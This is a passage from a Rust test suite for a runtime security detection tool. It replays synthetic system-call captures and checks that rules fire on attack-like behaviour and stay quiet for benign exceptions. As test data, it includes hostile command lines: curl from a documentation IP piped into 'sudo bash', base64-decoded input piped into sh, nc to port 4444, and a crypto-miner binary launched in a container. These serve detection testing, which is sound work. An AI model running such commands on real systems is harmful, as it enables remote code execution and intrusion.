            s.syscall(
                d,
                "symlink",
                &[
                    ("res", V::I(0)),
                    ("target", s_("/etc/pam.d/common-auth")),
                    ("linkpath", s_("/etc/pam.d/htop")),
                ],
            );
            let p = s.spawn(100, Cmd::new("/usr/bin/ln", &["-s", "/etc/hostname", "/tmp/h"]));
            s.syscall(
                p,
                "symlink",
                &[("res", V::I(0)), ("target", s_("/etc/hostname")), ("linkpath", s_("/tmp/h"))],
            );
        },
        expect: Expect::Holds,
    },
    // --- Decoded or downloaded script executed
    Row {
        rule: "Decoded or downloaded script executed",
        what: "base64 -d piped into sh",
        build: |s| {
            run(s, "/bin/sh", &["-c", "echo aWQK | base64 -d | sh"]);
        },
        expect: Expect::Fires(&[("proc.cmdline", "sh -c echo aWQK | base64 -d | sh")]),
    },
    Row {
        rule: "Decoded or downloaded script executed",
        what: "curl piped into sudo bash",
        build: |s| {
            run(s, "/usr/bin/bash", &["-c", "curl -fsSL http://203.0.113.7/i.sh | sudo bash -s"]);
        },
        expect: Expect::Fires(&[("proc.name", "bash")]),
    },
    Row {
        rule: "Decoded or downloaded script executed",
        what: "a certificate decoded into a file; curl piped into grep",
        build: |s| {
            let sh = login_shell(s);
            s.spawn(sh, Cmd::new("/bin/sh", &["-c", "base64 -d cert.b64 > cert.pem"]));
            s.spawn(sh, Cmd::new("/bin/sh", &["-c", "curl -s http://127.0.0.1:8080/health | grep -q ok"]));
            s.spawn(sh, Cmd::new("/bin/sh", &["-c", "curl -s http://x/sums | shasum -c"]));
        },
        expect: Expect::Holds,
    },
    // --- System binary made a network connection
    Row {
        rule: "System binary made a network connection",
        what: "sed connects out",
        build: |s| {
            let p = run(s, "/usr/bin/sed", &["-n", "p"]);
            s.connect(p, 3, [198, 51, 100, 9], 443, false);
        },
        expect: Expect::Fires(&[
            ("fd.name", "10.0.0.5:40000->198.51.100.9:443"),
            ("fd.l4proto", "tcp"),
            ("proc.name", "sed"),
        ]),
    },
    Row {
        rule: "System binary made a network connection",
        what: "cat sends a UDP datagram",
        build: |s| {
            let p = run(s, "/usr/bin/cat", &["/etc/hostname"]);
            udp_send(s, p, 3, [198, 51, 100, 9], 53);
        },
        expect: Expect::Fires(&[("fd.l4proto", "udp"), ("evt.type", "sendto")]),
    },
    Row {
        rule: "System binary made a network connection",
        what: "curl connects out; cat writes to a unix socket",
        build: |s| {
            let p = run(s, "/usr/bin/curl", &["https://example.org"]);
            s.connect(p, 3, [198, 51, 100, 9], 443, false);
            let c = s.spawn(100, Cmd::new("/usr/bin/cat", &["x"]));
            s.syscall(
                c,
                "socket",
                &[("fd", V::I(3)), ("domain", V::I(1)), ("type", V::I(1)), ("proto", V::I(0))],
            );
            s.syscall(c, "connect", &[("res", V::I(0)), ("fd", V::I(3))]);
        },
        expect: Expect::Holds,
    },
    // --- io_uring used by an unexpected program
    Row {
        rule: "io_uring used by an unexpected program",
        what: "python sets up an io_uring",
        build: |s| {
            let p = run(s, "/usr/bin/python3", &["uring.py"]);
            s.syscall(p, "io_uring_setup", &[("res", V::I(5)), ("entries", V::I(4))]);
        },
        expect: Expect::Fires(&[("proc.cmdline", "python3 uring.py"), ("proc.pname", "bash")]),
    },
    Row {
        rule: "io_uring used by an unexpected program",
        what: "postgres uses io_uring",
        build: |s| {
            s.process(70, 1, "/usr/lib/postgresql/16/bin/postgres", &["-D", "/var/lib/postgresql"]);
            s.syscall(70, "io_uring_setup", &[("res", V::I(5)), ("entries", V::I(64))]);
        },
        expect: Expect::Holds,
    },
    // --- Unexpected outbound connection
    Row {
        rule: "Unexpected outbound connection",
        what: "nc connects to a remote port",
        build: |s| {
            let p = run(s, "/usr/bin/nc", &["203.0.113.7", "4444"]);
            s.connect(p, 3, [203, 0, 113, 7], 4444, false);
        },
        expect: Expect::Fires(&[
            ("fd.name", "10.0.0.5:40000->203.0.113.7:4444"),
            ("proc.name", "nc"),
            ("fd.l4proto", "tcp"),
            ("proc.pname", "bash"),
        ]),
    },
    Row {
        rule: "Unexpected outbound connection",
        what: "bash connects a UDP socket (/dev/udp)",
        build: |s| {
            let sh = login_shell(s);
            s.connect(sh, 3, [198, 51, 100, 1], 9, true);
        },
        expect: Expect::Fires(&[("fd.l4proto", "udp"), ("proc.name", "bash")]),
    },
    Row {
        rule: "Unexpected outbound connection",
        what: "a health check to a local port; curl connects out",
        build: |s| {
            let sh = login_shell(s);
            s.connect(sh, 3, [127, 0, 0, 1], 8080, false);
            let p = s.spawn(sh, Cmd::new("/usr/bin/curl", &["https://example.org"]));
            s.connect(p, 3, [198, 51, 100, 9], 443, false);
        },
        expect: Expect::Holds,
    },
    // --- Executable not in the container image
    Row {
        rule: "Executable not in the container image",
        what: "a downloaded binary runs in a container",
        build: |s| {
            let c = container_sh(s);
            s.spawn(c, Cmd::new("/tmp/xmrig", &["-o", "pool:3333"]).in_container().flags(EXE_UPPER_LAYER));
        },
        expect: Expect::Fires(&[
            ("proc.exepath", "/tmp/xmrig"),
            ("container.id", "3ad7b26ded6d"),
            ("container.image.repository", "nginx"),
        ]),
    },
    Row {
        rule: "Executable not in the container image",
        what: "a program of the image; a postinst script run by dpkg",
        build: |s| {
            let c = container_sh(s);
            s.spawn(c, Cmd::new("/usr/sbin/nginx", &[]).in_container().flags(EXE_LOWER_LAYER));
            let d =
                s.spawn(c, Cmd::new("/usr/bin/dpkg", &["-i", "x.deb"]).in_container().flags(EXE_LOWER_LAYER));
            s.spawn(
                d,
                Cmd::new("/var/lib/dpkg/info/x.postinst", &["configure"])
                    .in_container()
                    .flags(EXE_UPPER_LAYER),
            );
        },
        expect: Expect::Holds,
    },
];

fn s_(x: &str) -> V {
    s(x)
}

// ------------------------------------------------------------------ running rows

/// Build a row's capture, replay it with the default rules (all matching rules reported), and
/// return the alerts.
fn replay_row(row: &Row, dir: &Path, i: usize) -> Vec<serde_json::Value> {
    let mut s = Synth::new();
    (row.build)(&mut s);
    let cap = dir.join(format!("row{i}.scap"));
    s.write(&cap);
    replay_default_rules(&cap)
}

/// What is wrong with one row, if anything.
fn check(row: &Row, alerts: &[serde_json::Value]) -> Option<String> {
    let mine: Vec<&serde_json::Value> = alerts.iter().filter(|a| a["rule"] == row.rule).collect();
    match &row.expect {
        Expect::Holds if mine.is_empty() => None,
        Expect::Holds => Some(format!("fired although it should not: {}", mine[0]["output"])),
        Expect::Fires(_) if mine.is_empty() => {
            let others: Vec<&str> = alerts.iter().filter_map(|a| a["rule"].as_str()).collect();
            Some(format!("did not fire (other alerts: {others:?})"))
        }
        Expect::Fires(fields) => {
            let a = mine[0];
            let wrong: Vec<String> = fields
                .iter()
                .filter(|(k, v)| {
                    let got = &a["output_fields"][*k];
                    got.as_str().map_or_else(|| got.to_string(), str::to_string) != *v
                })
                .map(|(k, v)| format!("{k}: expected {v:?}, got {}", a["output_fields"][*k]))
                .collect();
            (!wrong.is_empty()).then(|| format!("{}\n      output: {}", wrong.join("; "), a["output"]))
        }
    }
}

fn run_rows(kind: fn(&Expect) -> bool) {
    let dir = tempfile::tempdir().unwrap();
    let rows: Vec<(usize, &Row)> = ROWS.iter().enumerate().filter(|(_, r)| kind(&r.expect)).collect();
    assert!(!rows.is_empty());
    let failures = std::sync::Mutex::new(Vec::new());
    let next = std::sync::atomic::AtomicUsize::new(0);
    std::thread::scope(|sc| {
        for _ in 0..3 {
            sc.spawn(|| loop {
                let n = next.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let Some((i, row)) = rows.get(n) else { break };
                let alerts = replay_row(row, dir.path(), *i);
                if let Some(why) = check(row, &alerts) {
                    failures.lock().unwrap().push(format!("[{}] {}: {why}", row.rule, row.what));
                }
            });
        }
    });
    let failures = failures.into_inner().unwrap();
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n  {}",
        failures.len(),
        rows.len(),
        failures.join("\n  ")
    );
}

#[test]
fn each_rule_fires_with_its_output_fields() {
    run_rows(|e| matches!(e, Expect::Fires(_)));
}

#[test]
fn each_rule_main_exception_holds() {
    run_rows(|e| matches!(e, Expect::Holds));
}

#[test]
fn every_default_rule_has_rows() {
    let o = harrier(&["rules", "list", "-r", default_rules_file().to_str().unwrap(), "--json"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(stdout(&o).trim()).expect("rules list --json");
    let names: BTreeSet<String> = v
        .as_array()
        .or_else(|| v["rules"].as_array())
        .expect("an array of rules")
        .iter()
        .map(|r| r["name"].as_str().or_else(|| r["rule"].as_str()).expect("rule name").to_string())
        .collect();
    assert!(names.len() >= 28, "{names:?}");
    let mut problems = Vec::new();
    for n in &names {
        let fires = ROWS.iter().any(|r| r.rule == n && matches!(r.expect, Expect::Fires(_)));
        let holds = ROWS.iter().any(|r| r.rule == n && matches!(r.expect, Expect::Holds));
        if !fires {
            problems.push(format!("{n}: no row where it fires"));
        }
        if !holds {
            problems.push(format!("{n}: no row where its exception holds"));
        }
    }
    for r in ROWS {
        if !names.contains(r.rule) {
            problems.push(format!("row '{}' names a rule that is not in the file: {}", r.what, r.rule));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

#[test]
fn default_rules_load_without_warnings() {
    let o = harrier(&["rules", "validate", default_rules_file().to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let all = format!("{}{}", stdout(&o), stderr(&o));
    assert!(all.contains(": Ok"), "{all}");
    assert!(!all.to_lowercase().contains("warning"), "{all}");
}
